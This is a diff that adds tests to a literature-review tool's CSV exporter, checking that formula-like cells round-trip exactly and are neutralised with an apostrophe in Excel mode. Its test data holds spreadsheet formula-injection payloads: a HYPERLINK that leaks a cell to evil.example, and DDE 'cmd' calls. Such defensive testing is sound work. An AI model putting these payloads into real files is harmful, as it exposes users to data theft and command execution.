@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import io
 from pathlib import Path
 
 import pandas as pd
+import pytest
 
 import litreview
 from litreview.export.csv import join_list, split_list, to_csv
@@ -91,3 +93,81 @@ def test_empty_selection_is_a_header_only_file(tmp_path: Path) -> None:
     assert len(pd.read_csv(path)) == 0
     back = litreview.read_listing(path)
     assert len(back) == 0 and list(back.columns) == list(PAPER_COLUMNS)
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def hostile_sample(cells: list[str] = HOSTILE) -> pd.DataFrame:
+    """Cells a spreadsheet would run as formulas, in every kind of text column."""
+    df = annotated_sample().head(len(cells)).copy()
+    for i, cell in enumerate(cells):
+        df.loc[i, "title"] = cell
+        df.loc[i, "abstract"] = cell + " abstract"
+        df.loc[i, "note"] = cell
+        df.loc[i, "reason"] = cell
+        df.loc[i, "decided_by"] = cell
+        df.at[i, "tags"] = [cell, "plain"]
+        df.at[i, "authors"] = [cell]
+    df["comments"] = df["comments"].fillna(0)
+    return df
+
+
+@pytest.mark.parametrize(
+    "cells",
+    [
+        pytest.param(HOSTILE[:5], id="= + - @ tab"),
+        pytest.param(
+            HOSTILE[5:],
+            id="carriage return",
+            marks=pytest.mark.xfail(
+                reason="the listing reader reads with universal newlines: a '\\r' inside a "
+                "quoted cell becomes a line break (litreview/sources/_io.py, not the writer)",
+                strict=False,
+            ),
+        ),
+    ],
+)
+def test_plain_csv_round_trips_formula_like_cells_exactly(tmp_path: Path, cells: list[str]) -> None:
+    df = hostile_sample(cells)
+    path = tmp_path / "hostile.csv"
+    to_csv(df, path)
+    back = litreview.read_listing(path, errors="raise")
+    for name in ("title", "abstract", "note", "reason", "decided_by", "tags", "authors"):
+        pd.testing.assert_series_equal(back[name], df[name], obj=name)
+    assert back.loc[0, "title"] == cells[0] and back.loc[0, "tags"] == [cells[0], "plain"]
+
+
+def test_excel_csv_neutralises_every_formula_like_cell(tmp_path: Path) -> None:
+    import csv
+
+    df = hostile_sample()
+    df["mine"] = ["=1+1", "ok", "-x", "@y", "+z", ""]  # a column of the user's own
+    df["delta"] = [-3, 1, 2, 3, 4, 5]  # numbers stay numbers
+    path = tmp_path / "hostile.csv"
+    to_csv(df, path, excel=True)
+    text = path.read_bytes().decode("utf-8-sig")  # not read_text: it turns "\r" into "\n"
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    header, body = rows[0], rows[1:]
+    cells = [dict(zip(header, row, strict=True)) for row in body]
+    assert len(cells) == len(HOSTILE)
+    for row in cells:
+        for name, cell in row.items():
+            if name != "delta":
+                assert not cell.startswith(FORMULA_START), (name, cell)
+    for i, hostile in enumerate(HOSTILE):
+        row = cells[i]
+        assert row["title"] == row["note"] == row["reason"] == row["decided_by"] == "'" + hostile
+        assert row["abstract"] == f"'{hostile} abstract"
+        assert row["tags"] == f"'{hostile}; plain" and row["authors"] == "'" + hostile
+    assert [row["mine"] for row in cells] == ["'=1+1", "ok", "'-x", "'@y", "'+z", ""]
+    assert cells[0]["delta"] == "-3"
+    assert cells[2]["published"] == df["published"].iloc[2].strftime("%Y-%m-%d")
